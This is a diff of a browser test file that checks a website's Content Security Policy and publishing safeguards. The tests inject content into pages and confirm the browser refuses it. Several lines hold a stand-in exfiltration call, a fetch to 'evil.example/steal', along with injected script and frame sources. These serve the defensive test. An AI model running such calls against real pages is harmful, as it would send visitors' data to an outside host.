@@ -1,12 +1,12 @@
 import { readdir, readFile } from "node:fs/promises";
 import path from "node:path";
 import { gallery } from "../lib/content/gallery";
-import other from "./setup/other-company.json" with { type: "json" };
+import otherCompany from "./setup/other-company.json" with { type: "json" };
 import { testSites } from "./setup/test-sites";
 import { expect, facts, keyless, needsLocalServer, test } from "./test";
 
-/** What is smuggled in below, as the browser names it when it refuses it. */
-const everything = [
+/** What the test below adds to a page, as the browser names it when it refuses it. */
+const violations = [
   "connect-src https://evil.example/steal",
   "frame-src https://evil.example",
   "img-src https://evil.example/x.png",
@@ -15,14 +15,14 @@ const everything = [
   "script-src-elem inline",
   "style-src-elem inline",
 ];
-const pages = ["/", "/404.html", "/nothing-here", "/edit/"];
+const pages = ["/", "/nothing-here", "/edit/"];
 
-test.describe("a stranger's page or code", () => {
+test.describe("what somebody else has put into a page", () => {
   test.use({ expectedErrors: /Content Security Policy|Failed to load resource/ });
 
   for (const address of pages) {
     test(`at ${address} does not run, show or call home`, async ({ page }) => {
-      // What the editor does by itself, its own stories tell.
+      // What the editor itself does is tested in edit.spec.ts.
       await page.route("/edit/sveltia-cms.js", (route) => route.abort());
       await page.goto(address);
       await page.evaluate(() => {
@@ -42,15 +42,15 @@ test.describe("a stranger's page or code", () => {
         fetch("https://evil.example/steal").catch(() => {});
       });
       const seen = () => page.evaluate(() => Reflect.get(window, "seen").sort());
-      // The editor alone writes styles of its own.
-      const own = address === "/edit/" ? "style-src-elem inline" : "";
-      await expect.poll(seen).toEqual(everything.filter((one) => one !== own));
+      // The editor's scripts write style elements.
+      const allowed = address === "/edit/" ? "style-src-elem inline" : "";
+      await expect.poll(seen).toEqual(violations.filter((one) => one !== allowed));
       await page.getByText("press", { exact: true }).dispatchEvent("click");
       expect(await page.evaluate(() => "hacked" in window)).toBe(false);
     });
   }
 
-  test("shows none of the pages in a frame", async ({ page, baseURL }) => {
+  test("cannot show any of the pages in a frame", async ({ page, baseURL }) => {
     const urls = pages.map((address) => new URL(address, baseURL).href);
     // Somebody else's document, without a policy of its own that would stop a frame.
     await page.goto(new URL("/robots.txt", keyless).href);
@@ -91,7 +91,7 @@ test("every answer carries the headers that protect a visitor", async ({ request
 
 test.describe("the published files", () => {
   test.beforeEach(() => needsLocalServer("they are read from disk"));
-  const { keyed, other: others } = testSites;
+  const { keyed, other } = testSites;
   const read = (name: string, out = keyed.out) => readFile(path.join(out, name), "utf8");
 
   test("hold no source map and no path of the machine", async () => {
@@ -109,9 +109,9 @@ test.describe("the published files", () => {
     const { name, phone, email, city, state, area, social } = facts;
     const texts = [name, phone, email, city, state, area, ...social.map(({ url }) => url)];
     // An owner may have a fact in common with the other company.
-    const telling = texts.filter((fact) => !JSON.stringify(other).includes(fact));
+    const telling = texts.filter((fact) => !JSON.stringify(otherCompany).includes(fact));
     for (const file of ["index.html", "404.html", "manifest.webmanifest"]) {
-      const text = await read(file, others.out);
+      const text = await read(file, other.out);
       for (const fact of telling) expect(text, file).not.toContain(fact);
     }
   });
